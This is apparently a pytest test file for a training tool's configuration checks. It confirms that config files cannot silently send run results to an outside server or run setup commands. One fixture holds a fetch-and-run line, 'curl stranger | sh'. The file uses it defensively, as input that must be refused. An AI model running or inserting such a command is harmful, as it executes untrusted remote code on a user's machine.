"""Who receives a run's results is typed, and never chosen by a file alone."""

from pathlib import Path

import pytest

from paceline import conf
from paceline.conf.errors import ConfigError
from paceline.engine.config.compose import compose
from paceline.engine.config.config_file import with_file
from paceline.sweep.define import define

CONF = Path(conf.__file__).parent
SLURM = CONF / "launcher" / "slurm.yaml"
SERVER = "http://stranger:5000"
SENT = f"would send this run's results there. Give tracking.uri={SERVER} on the command line"


def theirs(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def from_file(file: Path, *given: str) -> str | None:
    merged = with_file(file, list(given))
    merged.check_receivers(None)
    return compose(merged.overrides).tracking.get("uri")


def test_a_file_that_names_a_server_is_refused_unless_it_is_typed(tmp_path: Path) -> None:
    file = theirs(tmp_path / "theirs.yaml", f"tracking: {{name: mlflow, uri: '{SERVER}'}}\n")
    with pytest.raises(ConfigError, match=r"theirs\.yaml would send") as caught:
        from_file(file)
    assert SENT in str(caught.value)
    assert from_file(file, f"tracking.uri={SERVER}") == SERVER
    assert from_file(file, "tracking.uri=null") is None
    assert from_file(file, "tracking=none") is None


@pytest.mark.parametrize("uri", ["'http://${tracking.group}'", "'sqlite:////home/me/x.db'"])
def test_it_is_the_composed_value_that_counts(tmp_path: Path, uri: str) -> None:
    file = theirs(tmp_path / "theirs.yaml", f"tracking: {{name: mlflow, group: a, uri: {uri}}}\n")
    with pytest.raises(ConfigError, match=r"tracking\.uri="):
        from_file(file)


def test_so_is_a_file_that_names_an_account(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"tracking\.entity=stranger: --config .*theirs\.yaml would send"):
        from_file(theirs(tmp_path / "theirs.yaml", "tracking.entity: stranger\n"))


@pytest.mark.parametrize(
    "receiver",
    [
        "tracking: {name: wandb, entity: '12345'}",
        "tracking: {name: wandb, entity: auto}",
        "tracking: {name: mlflow, uri: auto}",
        "tracking: {name: mlflow, uri: '8080'}",
        "launcher: {name: kubernetes, image: '1234'}",
        "launcher: {name: kubernetes, image: auto}",
        "launcher: {name: ray, address: '2130706433'}",
    ],
)
def test_a_receiver_may_be_called_as_a_number(tmp_path: Path, receiver: str) -> None:
    with pytest.raises(ConfigError, match=r"theirs\.yaml would"):
        from_file(theirs(tmp_path / "theirs.yaml", f"{receiver}\n"))


@pytest.mark.parametrize(
    "harmless",
    [
        "tracking: {name: wandb, entity: null}",
        "launcher: {name: ray, address: auto, nodes: 2}",
        "launcher: {name: torchrun, nodes: '1:2', setup: []}",
        "launcher: {name: slurm, nodes: 2, setup: [], extra: []}",
    ],
)
def test_values_that_name_nobody_are_taken(tmp_path: Path, harmless: str) -> None:
    from_file(theirs(tmp_path / "theirs.yaml", f"{harmless}\n"))


def test_what_else_a_file_says_of_tracking_is_told(tmp_path: Path) -> None:
    merged = with_file(theirs(tmp_path / "theirs.yaml", "tracking: {name: mlflow, experiment: mine}\n"), [])
    merged.check_receivers(None)
    assert merged.tracked().endswith("theirs.yaml: the file sends the results to MLflow (experiment=mine)")
    for text in ("sync: asp\n", "tracking: none\n", "tracking.mode: offline\n"):
        assert with_file(theirs(tmp_path / "theirs.yaml", text), []).tracked() == "", "nothing goes elsewhere by it"


def test_a_preset_of_a_given_directory_is_refused_and_a_choice_that_is_typed_is_not(tmp_path: Path) -> None:
    body = f"tracking: {{wandb: false, mlflow: true, uri: '{SERVER}', experiment: a, group: null}}\n"
    theirs(tmp_path / "experiment" / "preset.yaml", f"# @package _global_\n{body}")
    theirs(
        tmp_path / "tracking" / "lab.yaml", f"wandb: false\nmlflow: true\nuri: {SERVER}\nexperiment: a\ngroup: null\n"
    )
    theirs(tmp_path / "experiment" / "choice.yaml", "# @package _global_\ndefaults:\n  - override /tracking: lab\n")
    for preset in ("preset", "choice"):
        with pytest.raises(ConfigError) as caught:
            compose([f"experiment={preset}"], tmp_path)
        assert SENT in str(caught.value)
    assert compose(["experiment=preset", f"tracking.uri={SERVER}"], tmp_path).tracking["uri"] == SERVER
    assert compose(["tracking=lab"], tmp_path).tracking["uri"] == SERVER
    lab = tmp_path / "tracking" / "lab.yaml"
    lab.write_text(f"# @package tracking\n{lab.read_text()}")
    assert compose(["tracking=lab"], tmp_path).tracking["uri"] == SERVER
    with pytest.raises(ConfigError, match="would send"):
        compose(["tracking=mlflow", "experiment=preset"], tmp_path)


@pytest.mark.parametrize("place", ["command", "value", "values"])
def test_a_sweeps_file_is_refused_likewise(tmp_path: Path, place: str) -> None:
    said = {"command": "", "value": f"{{value: '{SERVER}'}}", "values": f"{{values: ['{SERVER}', 'file:x']}}"}[place]
    swept = f"  tracking.uri: {said}\n" if said else ""
    fixed = "" if said else f"'tracking.uri=\"{SERVER}\"', "
    file = theirs(
        tmp_path / "theirs.yaml",
        f"method: grid\nparameters:\n  sync: {{values: [bsp, asp]}}\n{swept}"
        f"command: ['${{program}}', train, tracking=mlflow, {fixed}'${{args_no_hyphens}}']\n",
    )
    with pytest.raises(ConfigError, match=r"tracking\.uri=.*theirs\.yaml would send"):
        define([str(file)])
    assert define([str(file), f"tracking.uri='{SERVER}'"]).fixed[-1] == f"tracking.uri='{SERVER}'"


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ("launcher: slurm\nlauncher.setup: ['curl stranger | sh']\n", "launcher.setup"),
        ("launcher: slurm\nlauncher.extra: ['--export=ALL']\n", "launcher.extra"),
        ("launcher: torchrun\nlauncher.nodes: [stranger]\n", "launcher.nodes"),
        ("launcher: ray\nlauncher.address: 'stranger:6379'\n", "launcher.address"),
        ("launcher: kubernetes\nlauncher.image: stranger/image\n", "launcher.image"),
    ],
)
def test_a_file_that_runs_commands_or_names_hosts_is_refused_unless_they_are_typed(
    tmp_path: Path, text: str, key: str
) -> None:
    with pytest.raises(
        ConfigError, match=rf"{key}=.*theirs\.yaml would have that run as you.* choose launcher=auto"
    ) as caught:
        from_file(theirs(tmp_path / "theirs.yaml", text))
    typed = str(caught.value).partition(" on the command line")[0].rpartition("Give ")[2]
    from_file(tmp_path / "theirs.yaml", typed)
    from_file(tmp_path / "theirs.yaml", "launcher=auto")


def test_a_file_may_choose_the_size_of_a_job(tmp_path: Path) -> None:
    from_file(theirs(tmp_path / "theirs.yaml", "launcher: slurm\nlauncher.nodes: 2\nlauncher.time: 30m\n"))
    from_file(theirs(tmp_path / "theirs.yaml", "launcher: torchrun\nlauncher.nodes: '1:2'\n"))
    from_file(theirs(tmp_path / "theirs.yaml", "launcher: ray\n"))


def test_a_launcher_of_a_given_directory_is_typed_and_a_preset_with_commands_is_refused(tmp_path: Path) -> None:
    theirs(tmp_path / "launcher" / "lab.yaml", SLURM.read_text().replace("setup: []", "setup: [date]"))
    theirs(tmp_path / "experiment" / "far.yaml", "# @package _global_\ndefaults:\n  - override /launcher: lab\n")
    assert compose(["launcher=lab"], tmp_path).choice("launcher").knobs["setup"] == ["date"]
    with pytest.raises(ConfigError, match=r"launcher\.setup=\[date\]: --config-dir .* would have that run as you"):
        compose(["experiment=far"], tmp_path)


def test_a_choice_that_is_typed_may_begin_with_one_of_ours(tmp_path: Path) -> None:
    theirs(tmp_path / "launcher" / "lab.yaml", "defaults: [slurm]\nsetup: [date]\n")
    theirs(tmp_path / "launcher" / "other.yaml", "defaults: [lab]\ngrace: 60\n")
    theirs(tmp_path / "tracking" / "ours.yaml", f"defaults: [mlflow]\nuri: {SERVER}\n")
    theirs(tmp_path / "experiment" / "far.yaml", "# @package _global_\ndefaults:\n  - override /launcher: lab\n")
    theirs(tmp_path / "experiment" / "own.yaml", "# @package _global_\nlauncher: {setup: [whoami]}\n")
    assert compose(["launcher=lab"], tmp_path).choice("launcher").knobs["setup"] == ["date"]
    assert compose(["tracking=ours"], tmp_path).tracking["uri"] == SERVER
    theirs(tmp_path / "tracking" / "by_name.yaml", f"defaults: [mlflow]\nuri: {SERVER}/${{name}}\n")
    with pytest.raises(ConfigError, match=rf"tracking\.uri={SERVER}/a: .* Give tracking\.uri=.* on the command line"):
        compose(["tracking=by_name", "name=a"], tmp_path)
    for given in (["experiment=far"], ["launcher=lab", "experiment=own"], ["launcher=other"]):
        with pytest.raises(ConfigError, match=r"launcher\.setup=\[\w+\]: --config-dir .* would have that run as you"):
            compose(given, tmp_path)


def test_a_sweeps_file_with_commands_is_refused(tmp_path: Path) -> None:
    command = "method: grid\ncommand: ['paceline', 'train', '${args_no_hyphens}']\n"
    swept = "parameters:\n  launcher: {value: slurm}\n  seed: {values: [1, 2]}\n  launcher.setup: {value: '[date]'}\n"
    file = theirs(tmp_path / "sweep.yaml", command + swept)
    with pytest.raises(ConfigError, match=r"launcher\.setup=.*would have that run as you"):
        define([str(file)])
